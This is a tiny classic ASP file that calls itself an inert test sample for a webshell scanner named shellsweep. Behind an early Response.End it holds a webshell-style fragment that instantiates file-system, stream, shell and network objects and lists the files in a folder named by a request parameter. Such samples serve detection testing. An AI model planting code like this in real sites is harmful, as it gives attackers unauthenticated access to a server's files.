<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
' 文件管理
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set st = Server.CreateObject("ADODB.Stream")
Set sa = Server.CreateObject("Shell.Application")
Set net = Server.CreateObject("WScript.Network")
path = Request("path")
For Each f In fso.GetFolder(path).Files : Response.Write f.Name & "<br>" : Next
%>
